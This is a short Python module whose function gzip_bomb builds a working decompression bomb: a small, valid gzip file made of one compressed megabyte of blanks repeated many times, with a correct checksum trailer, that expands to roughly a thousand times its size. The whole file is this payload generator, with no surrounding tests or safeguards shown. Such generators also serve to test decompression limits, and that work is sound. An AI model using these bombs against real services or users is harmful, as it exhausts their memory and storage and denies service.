"""A small gzip that expands to much: one compressed block of blanks, written again and again."""

from __future__ import annotations

import struct
import zlib
from functools import lru_cache

_BLOCK = b" " * 2**20
_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


@lru_cache(4)
def gzip_bomb(size: int) -> bytes:
    """One whole gzip member (RFC 1952) of at least `size` blanks, about a thousandth as long."""
    count = -(-size // len(_BLOCK))
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # A full flush ends on a byte and forgets the past, so that the block may follow itself.
    packed = packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(count):
        check = zlib.crc32(_BLOCK, check)
    end = packer.flush(zlib.Z_FINISH)
    return _HEAD + packed * count + end + struct.pack("<LL", check, count * len(_BLOCK) % 2**32)
